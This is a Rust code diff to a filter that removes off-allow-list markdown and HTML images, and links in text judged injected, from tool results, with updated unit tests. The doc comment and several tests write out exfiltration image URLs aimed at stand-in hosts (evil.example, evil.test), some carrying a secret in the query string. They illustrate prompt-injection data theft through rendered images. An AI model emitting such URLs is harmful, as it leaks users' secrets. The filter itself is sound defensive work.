@@ -1,10 +1,12 @@
 //! Dropping markdown images and links (and HTML images) that point off the allow-list.
 //!
 //! A markdown image in a tool result is fetched by the client the moment it renders, so
-//! `![](https://evil.example/p?d=<secret>)` exfiltrates without a click; a link can
-//! disguise where it goes. Absolute links and images whose host is not allowed are removed
-//! (the link text is kept); relative ones stay. Matching uses the regex crate only, so it
-//! is linear in the text.
+//! `![](https://evil.example/p?d=<secret>)` exfiltrates without a click: absolute images
+//! whose host is not allowed are always removed. A link needs a click and is what honest
+//! documentation is made of (a README links to a dozen hosts), so off-list links are only
+//! removed from a text judged injected ([`LinkFilter::apply`]'s `links`), with the link
+//! text kept; relative ones stay. Matching uses the regex crate only, so it is linear in
+//! the text.
 
 use regex::{Captures, Regex};
 use std::borrow::Cow;
@@ -52,9 +54,11 @@ impl LinkFilter {
         }
     }
 
-    /// `text` without off-list images and links, and how many were removed; borrowed when
-    /// nothing changed.
-    pub fn apply<'a>(&self, text: &'a str) -> (Cow<'a, str>, usize) {
+    /// `text` without off-list images (and off-list links too when `links` is set: the text
+    /// was judged injected), and how many were removed; borrowed when nothing changed.
+    /// Reference definitions are links, unless the text also holds an image (`![`) that
+    /// could use one.
+    pub fn apply<'a>(&self, text: &'a str, links: bool) -> (Cow<'a, str>, usize) {
         if !text.contains("](") && !text.contains("]:") && !contains_img(text) {
             return (Cow::Borrowed(text), 0);
         }
@@ -64,7 +68,7 @@ impl LinkFilter {
         for _ in 0..2 {
             let next = INLINE.replace_all(&out, |c: &Captures| {
                 let url = c.get(3).map_or("", |m| m.as_str());
-                if self.url_allowed(url) {
+                if (!links && &c[1] != "!") || self.url_allowed(url) {
                     return c[0].to_string();
                 }
                 removed += 1;
@@ -80,8 +84,9 @@ impl LinkFilter {
                 break;
             }
         }
+        let references = links || out.contains("![");
         let next = REFERENCE.replace_all(&out, |c: &Captures| {
-            if self.url_allowed(&c[1]) {
+            if !references || self.url_allowed(&c[1]) {
                 return c[0].to_string();
             }
             removed += 1;
@@ -175,6 +180,7 @@ mod tests {
         let f = filter();
         let (out, n) = f.apply(
             "see ![x](https://evil.test/p?d={secret}) and [docs](https://evil.test/a \"t\").",
+            true,
         );
         assert_eq!(n, 2);
         assert_eq!(out, format!("see {IMAGE_MARKER} and docs {LINK_MARKER}."));
@@ -185,9 +191,9 @@ mod tests {
     fn allowed_and_relative_links_stay() {
         let f = filter();
         let text = "[a](https://docs.example.com/x) [b](https://api.docs.example.com) [c](./README.md) [d](#top)";
-        let (out, n) = f.apply(text);
+        let (out, n) = f.apply(text, true);
         assert_eq!((out.as_ref(), n), (text, 0));
-        assert!(matches!(f.apply("no links here").0, Cow::Borrowed(_)));
+        assert!(matches!(f.apply("no links here", true).0, Cow::Borrowed(_)));
     }
 
     #[test]
@@ -202,27 +208,41 @@ mod tests {
             "HTTPS://EVIL.TEST",
             "https://evildocs.example.com/",
         ] {
-            let (_, n) = f.apply(&format!("![i]({url})"));
+            let (_, n) = f.apply(&format!("![i]({url})"), false);
             assert_eq!(n, 1, "{url}");
         }
-        let (_, n) = f.apply("![i](https://DOCS.example.com:443/a.png)");
+        let (_, n) = f.apply("![i](https://DOCS.example.com:443/a.png)", false);
         assert_eq!(n, 0);
     }
 
     #[test]
     fn nested_reference_and_html_images() {
         let f = filter();
-        let (out, n) = f.apply("[![i](https://evil.test/i.png)](https://evil.test/)");
+        let (out, n) = f.apply("[![i](https://evil.test/i.png)](https://evil.test/)", true);
         assert_eq!(n, 2, "{out}");
         assert!(!out.contains("evil"), "{out}");
-        let (out, n) = f.apply("intro\n[1]: https://evil.test/x \"t\"\nend");
+        let (out, n) = f.apply("intro\n[1]: https://evil.test/x \"t\"\nend", true);
         assert_eq!(n, 1);
         assert!(!out.contains("evil"), "{out}");
-        let (out, n) = f.apply("<IMG src=\"https://evil.test/x.png\" width=1> ok <img src='https://docs.example.com/a.png'>");
+        let (out, n) = f.apply("<IMG src=\"https://evil.test/x.png\" width=1> ok <img src='https://docs.example.com/a.png'>", false);
         assert_eq!(n, 1);
         assert!(
             out.starts_with(IMAGE_MARKER) && out.contains("docs.example.com"),
             "{out}"
         );
+    }
+
+    #[test]
+    fn links_in_honest_text_stay_images_do_not() {
+        let f = filter();
+        let doc = "See [the guide](https://readthedocs.io/x) and [PEP 8](https://peps.python.org/pep-0008/).\n\n[ref]: https://github.com/a/b";
+        let (out, n) = f.apply(doc, false);
+        assert_eq!((out.as_ref(), n), (doc, 0));
+        let (out, n) = f.apply(doc, true);
+        assert_eq!(n, 3, "{out}");
+        // A reference definition feeding an image is an image.
+        let (out, n) = f.apply("![chart][c]\n[c]: https://evil.test/p.png?d=1", false);
+        assert_eq!(n, 1, "{out}");
+        assert!(!out.contains("evil.test"), "{out}");
     }
 }
